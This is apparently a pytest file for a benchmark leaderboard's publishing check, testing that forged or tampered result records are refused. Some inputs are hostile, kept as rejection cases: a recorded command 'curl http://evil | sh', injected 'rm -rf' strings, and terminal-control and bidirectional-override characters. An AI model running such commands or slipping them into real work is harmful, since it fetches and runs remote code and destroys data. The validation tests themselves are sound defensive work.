"""Publishing rejects records that the installed plugins would not produce."""

from __future__ import annotations

import pytest
import torch
import yaml
from built_records import TO_ITS_END, forged, renamed
from formalbench.contracts.errors import RequestError
from formalbench.contracts.objective import Metric
from formalbench.contracts.record import CohortMember
from formalbench.contracts.specs import MetricSpec, ProtocolSpec
from formalbench.host import Plugin, PluginHost
from formalbench.metrics.close_brackets import MACRO, MICRO
from formalbench.running.plan import RunOptions, RunRequest, make_plan
from formalbench.running.session import execute
from formalbench.statistics.aggregate import facts_of
from formalbench.statistics.build import View, build_page
from formalbench.statistics.records import title_of
from formalbench.store import Store
from formalbench_leaderboard.publishing.record_check import Admission, copied
from formalbench_leaderboard.renderers import renderer

FORMALBENCH = Plugin("formalbench", "formalbench", "0.1.0")
BY_HAND = {"model": "by-hand", "kind": "exact", "rate": None}
OTHER_FILE = {"distribution": "rgpt.py", "sha256": "a" * 64}
ENTROPY = "test.cells.metrics.cross-entropy"
SUMS = "test.cells.metrics"


def mutual(*total):
    return {f"{SUMS}.mutual-information": {"total": total, "count": [100] * 4}}


PLANNED = {
    "its task.version is 2, not 1": {"task_version": 2},
    "task mystery:classify is not known": {"task": "mystery:classify", "fingerprint": "0" * 64},
    "its task.name is parity, not parity:classify": {"task": "parity", "fingerprint": "0" * 64},
    "its task.source is other, with other contents than formalbench": {"task_file": "other"},
    "unknown option of parity 'luck'": {"task_options": {"luck": 7}},
    "its task.options.p is 0.0, not absent": {"task_options": {"p": 0.0}},
    "model stranger is not known here": {"model": "stranger"},
    "name its --plugin rgpt.py": {"model": "mine", **OTHER_FILE},
    "its model.version is 2, not 1": {"model_version": 2},
    "its model.source is rgpt.py, with other contents than formalbench here": OTHER_FILE,
    "regulargpt: chunk=1: must be at least 2": {"options": {"chunk": 1}},
    "regulargpt: chunk=true: must be a whole": {"options": {"chunk": True}},
    "its model.kind is exact, not learned": {"kind": "exact", "rate": None},
    "its seed is 1, not 0": {**BY_HAND, "seed": 1},
    "its learning_rate is 0.5, not 0.001": {"rate": 0.5},
    "its test_id is 0000000000000000, not ": {"test_id": "0" * 16},
    "its test.fingerprint is 0": {"fingerprint": "0" * 64},
    "its test.cells.length is (41,), not (41, 51, ": {"accuracy": [100]},
    "its test.cells.strings[0] is 1, not 100": {"strings": 1, "accuracy": [1] * 4},
    "its test.chance_constant is 0, not 0.5": {"chance": 0.0},
    "its test.chance_constant is 0.49999, not 0.5": {"chance": 0.49999},
    "its test.metric is luck, not accuracy": {"metric": "luck"},
    "its test.fingerprint": {
        **{"accuracy": [1], "strings": 1, "chance": 0.0, "fingerprint": "0" * 64}
    },
    "the recorded command does not match": {"command": "curl http://evil | sh"},
    "the recorded command": {"command": "'"},
    "its validation has nothing wrong": {"bits": 1.01},
}
"""Arguments of a record, by the reason to refuse it."""

MEASURED = {
    "its train_id is 0000000000000000, not ": {"train_id": "0" * 16},
    "its test.cells.metrics.cross-entropy is absent": {ENTROPY: ...},
    "its test.cells.metrics.luck is ": {f"{SUMS}.luck": {"total": [1] * 4, "count": [100] * 4}},
    "its test.cells.metrics.cross-entropy.count[3] is 99, not 100": {
        f"{ENTROPY}.count": [100, 100, 100, 99]
    },
    "its test cannot have -0.001 as the sum of cross-entropy": {f"{ENTROPY}.total": [1, 1, 1, -1]},
    "its test.cells.window is 2, not 1": {
        ENTROPY: {"total": [0, 0], "count": [200, 200]},
        "test.cells.window": 2,
    },
    "its test.cells.answers[0] is 200, not 100": {"test.cells.answers": [200] * 4},
    "cannot have -0.1 as the sum of mutual-information": mutual(0.0, 0.0, 0.0, -0.1),
    "cannot have 100.1 as the sum of mutual-information": mutual(0.0, 0.0, 0.0, 100.1),
    "its test has nothing wrong": {f"{ENTROPY}.total": [0, 0, 0, 100_200]},
    "more strings wrong than its cross-entropy can pay for": {
        "test.cells.correct": [100, 100, 100, 90],
        f"{ENTROPY}.total": [0, 0, 0, 9_900],
    },
    "its selected.strings is 9": {"selected.strings": 9, "selected.correct": 9},
    "its selected.metrics.cross-entropy is 9": {"selected.metrics.cross-entropy.count": 9},
    "its validation cannot have -1": {"selected.metrics.cross-entropy.total": -1.0},
    "characters that are not allowed": {"environment.hardware": "\u202ea chip"},
    "has characters that are not": {"message": "\x1b[2J"},
}
"""Values in an honest record, by the reason to refuse it."""


def refused(admission, record, reason):
    with pytest.raises(RequestError) as caught:
        admission.admit(record)
    assert reason in str(caught.value)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("reason", [*PLANNED, *MEASURED])
def test_a_forged_record_is_refused_with_one_line(host, make_record, reason):
    """Installed versions are looked up once for thousands of records: also behind honest ones."""
    keys = PLANNED.get(reason)
    record = forged(make_record(), MEASURED[reason]) if keys is None else make_record(**keys)
    refused(Admission(host), record, reason)
    admission = Admission(host)
    for honest in [make_record(), make_record(**BY_HAND)] * 2:
        admission.admit(honest)
    refused(admission, record, reason)


@pytest.mark.parametrize(
    ("keys", "paths"),
    [
        ({}, {}),
        ({"status": "diverged"}, {}),
        ({"options": {"chunk": 3}}, {}),
        ({"seed": 7}, {}),
        (BY_HAND, {}),
        ({"chance": 0.5 + 1e-7}, {}),
        ({"bits": 1.0}, {}),
        # Of two classes the right one has at least one half; with a wrong string any cost may be.
        ({}, {f"{ENTROPY}.total": [0, 0, 0, 100_000]}),
        ({"accuracy": [100, 100, 100, 99]}, {f"{ENTROPY}.total": [0, 0, 0, 10**9]}),
        ({}, mutual(*[99.5] * 4)),
        ({"not_finite": [2, 3]}, {}),
    ],
    ids=str,
)
def test_an_honest_record_is_taken(host, make_record, keys, paths):
    Admission(host).admit(forged(make_record(**keys), paths))


def test_a_forged_protocol_is_refused(host, make_record, protocol):
    admission, changed = Admission(host), {"changed": {"batch": 64}, "batch": 64}
    admission.admit(make_record(protocol=protocol | changed))
    for _ in range(2):
        for change, reason in (
            ({"name": "mine"}, "unknown protocol 'mine'"),
            ({"batch": 64}, "its protocol.batch is 64, not "),
            (changed | {"steps": 600}, "its protocol.steps is 600, not "),
        ):
            refused(admission, make_record(protocol=protocol | change), reason)
        admission.admit(make_record())


def test_a_test_that_is_not_finite_somewhere_counts_as_chance_there(host, make_record):
    admission = Admission(host)
    record = make_record(not_finite=[2, 3])
    correct, count = (*record.test.cells.correct[:3], 51), [100, 100, 0, 100]
    for paths, reason in (
        ({"test.cells.correct": correct}, "its test.cells.correct.3 is 51, not 50"),
        ({f"{ENTROPY}.count": count}, "cross-entropy.count[3] is 100, not 0"),
    ):
        refused(admission, forged(record, paths), reason)
    wrong = make_record(not_finite=[3], accuracy=[90, 100, 100, 100])
    refused(admission, forged(wrong, {f"{ENTROPY}.total": [0] * 4}), "more strings wrong")


class Certainty(Metric):
    """Says the same of every answer."""

    name = "certainty"

    def measure(self, logits, example):
        return torch.tensor([0.5 * len(example.inputs), len(example.inputs)])


def test_a_metric_of_a_plugin_is_compared_with_that_plugin(host, make_record):
    sums = {f"{SUMS}.certainty": {"total": [40.0] * 4, "count": [100] * 4}}

    def measured_besides(version):
        return renamed(forged(make_record(), sums | {"test.extra_metrics": {"certainty": version}}))

    refused(Admission(host), measured_besides(1), "its test.extra_metrics.certainty is 1, not abs")
    spec = MetricSpec("certainty", 1, "how sure it is", Certainty, ("classify",))
    host.metrics.add(spec, FORMALBENCH)
    Admission(host).admit(make_record())
    Admission(host).admit(measured_besides(1))
    refused(Admission(host), measured_besides(2), "its test.extra_metrics.certainty is 2, not 1")
    refused(Admission(host), forged(make_record(), sums), "its test.cells.metrics.certainty is ")


def test_a_local_model_is_taken_if_it_is_at_hand_with_the_same_contents(
    host, make_record, add_local_model
):
    add_local_model("mine", "a" * 64)
    Admission(host).admit(make_record("mine", sha256="a" * 64, distribution="mine.py"))
    other = make_record("mine", sha256="b" * 64, distribution="mine.py")
    refused(Admission(host), other, "its model.source is mine.py, with other contents than mine.py")


@pytest.mark.parametrize(
    ("more", "taken"),
    [
        ("--plugin mine.py", True),
        ("--plugin ../bad/mine.py", True),
        ("--plugin 'a; rm -rf'", False),
        ("--plugin -x", False),
        ("--plugin", False),
        ("; rm -rf x", False),
    ],
)
def test_a_command_may_name_plugins_and_nothing_else(host, make_record, more, taken):
    record = make_record(seed=1)
    told = record.model_copy(update={"command": f"{record.command} {more}"})
    if taken:
        Admission(host).admit(told)
    else:
        refused(Admission(host), told, "command")
    itself = record.command.replace("--seeds 2", "--seeds 1,")
    Admission(host).admit(record.model_copy(update={"command": itself}))


def test_the_weights_of_seed_0_are_not_left_out(host, make_record, monkeypatch):
    Admission(host).admit(make_record())  # too large to be kept
    made = host.models.get("regulargpt")[0].spec.factory.__init__.__globals__
    monkeypatch.setitem(made, "LARGE", 10)
    refused(Admission(host), make_record(parameters=10), "it names no weights")
    Admission(host).admit(make_record(seed=1, parameters=10))
    Admission(host).admit(make_record(status="error", parameters=0))
    monkeypatch.setitem(made, "LARGE", 1 << 26)
    refused(Admission(host), make_record(parameters=1 << 26), "larger than weights can be")


def missing(host, records, held=()):
    """Return the lines of what is missing, up to that word."""
    lines = Admission(host).incomplete(records, held)
    assert all(" missing" in line for line in lines)
    return [line.removeprefix("regulargpt on parity: ").partition(" missing")[0] for line in lines]


def test_every_seed_and_rate_belongs_to_it(host, make_runs, make_record):
    runs, more = make_runs(), make_runs(seeds=5)
    low, high = " at learning rate 0.0003", " at learning rate 0.001"
    for records, held, lines in (
        (runs, [], []),
        (runs[4:], runs[:4], []),
        ([], runs[:1], []),
        (runs[:5], [], [f"seed 2{low}"]),
        (runs[:3], [], [f"seeds 0, 1, 2{low}"]),
        ([one for one in more if one.seed != 3], [], [f"seed 3{low}", f"seed 3{high}"]),
        (more[:3] + more[5:], [], [f"seeds 3, 4{high}"]),
        # Seeds of other options or contents do not complete a row.
        (runs[:5], make_runs(options={"chunk": 3}), [f"seed 2{low}"]),
        (runs[:5], make_runs(sha256="a" * 64), [f"seed 2{low}"]),
        (runs[:5], make_runs(model_version=2), [f"seed 2{low}"]),
        ([make_record(**BY_HAND)], [], []),
    ):
        assert missing(host, records, held) == lines
    assert len(missing(host, [make_record(seed=2**53)])) == 2


def test_with_fallback_a_rate_is_asked_for_where_a_seed_before_it_did_not_learn(
    host, make_record, protocol
):
    used = {**protocol, "fallback": True, "decay": {"validated": 0.99}}
    (entry,) = host.protocols._entries["quick"]
    entry.spec.path.write_text(yaml.safe_dump(used))
    keys = {"protocol": used, "training": TO_ITS_END}
    low = "at learning rate 0.0003"
    for validations, at_next, lines in (
        ((1.0, 0.99, 1.0), 0, []),
        ((1.0, 0.98, 1.0), 0, [f"seeds 0, 1, 2 {low}"]),
        ((1.0, 0.98, 1.0), 3, []),
        ((1.0, 1.0, 1.0), 2, [f"seed 2 {low}"]),
        ((1.0, 1.0), 0, ["seed 2 at learning rate 0.001"]),
    ):
        runs = [make_record(seed=s, validation=one, **keys) for s, one in enumerate(validations)]
        runs += [make_record(seed=seed, rate=0.0003, **keys) for seed in range(at_next)]
        assert missing(host, runs) == lines


def test_all_runs_of_a_cohort_are_published(host, make_runs):
    runs = make_runs(training=TO_ITS_END)
    cohort = tuple(CohortMember(learning_rate=0.001, seed=seed) for seed in (0, 3))
    trained = runs[0].training.model_copy(update={"cohort": cohort})
    told = [runs[0].model_copy(update={"training": trained}), *runs[1:]]
    (line,) = Admission(host).incomplete(told, [])
    assert "seed 3 at learning rate 0.001 missing, which others trained together with" in line


def test_the_numbers_or_the_weights_of_another_seed_are_found(make_record):
    def pair(own, other, **keys):
        return [
            forged(make_record(seed=seed), {f"{ENTROPY}.total": sums}).model_copy(update=keys)
            for seed, sums in enumerate((own, other))
        ]

    (line,) = copied(pair((11, 12, 13, 0), (11, 12, 13, 0)))
    assert line == (
        "regulargpt on parity, quick, seed 1 at learning rate 0.001: its numbers are those of "
        "regulargpt on parity, quick, seed 0 at learning rate 0.001: one is a copy"
    )
    assert copied(pair((11, 12, 13, 0), (11, 12, 14, 0))) == []
    assert copied(pair((11, 12, 13, 0), (11, 12, 13, 0))[:1] * 2) == []
    for sums in ((0, 0, 0, 0), (5, 5, 5, 5)):  # all right, or the same of every string
        assert copied(pair(sums, sums)) == []
        assert len(copied(pair(sums, sums, weights="a" * 64))) == 1


WINDOW = """
    name: window
    version: 1
    seeds: 1
    steps: 10
    batch_tokens: 100
    evaluate_every: 10
    curriculum: {kind: generated}
    decay: {steps: 10}
    validation: {every: 10, tokens: 200}
    test: {tokens: 900}
"""


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A host that knows a protocol of windows, and a record of it."""
    folder = tmp_path_factory.mktemp("window")
    (folder / "window.yaml").write_text(WINDOW)
    host = PluginHost.load()
    host.protocols.add(ProtocolSpec("window", "a window", folder / "window.yaml"), FORMALBENCH)
    request = RunRequest(models=("lstm",), tasks=("dyck-2-3:generate",), protocol="window")
    threads = torch.get_num_threads()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FORMALBENCH_CACHE", str(folder / "cache"))
        store = Store(folder / "results")
        (record,) = execute(host, make_plan(host, request), store, RunOptions(jobs=1))
    torch.set_num_threads(threads)
    return host, record


@pytest.mark.parametrize(
    ("path", "value", "reason"),
    [
        (f"{SUMS}.{MICRO}.count", [999_999], f"its {SUMS}.{MICRO}.count[0] is 999999"),
        (f"{SUMS}.{MACRO}.count", [1], f"its {SUMS}.{MACRO}.count[0] is 1, not "),
        (f"{SUMS}.{MICRO}.total", [999_999], f"cannot have 999999 as the sum of {MICRO}"),
        (f"{SUMS}.{MICRO}.total", [0], None),  # its author's word
        ("test.cells.first", [80], "its test.cells.first[0] is 80, not 84"),
        ("test.cells.length", [168], "its test.cells.length[0] is 168, not 167"),
        ("test.cells.strings", [10_000], "its test.cells.strings[0] is 10000"),
        ("test.chance_length", 0.25, "its test.chance_length is 0.25"),
        ("test.fingerprint", "0" * 64, "its test.fingerprint"),
        ("status", "finished", None),
    ],
)
def test_a_forged_window_is_refused(made, path, value, reason):
    host, record = made
    if reason is None:
        Admission(host).admit(forged(record, {path: value}))
    else:
        refused(Admission(host), forged(record, {path: value}), reason)


def test_a_board_tells_of_the_window(made):
    _, record = made
    facts = facts_of([record])
    assert (facts.first, facts.last, facts.cells) == (84, 167, 1)
    page = build_page([record], View("it", (title_of(record),)))
    assert "; test strings of any length within 84–167, " in renderer("markdown")(page)
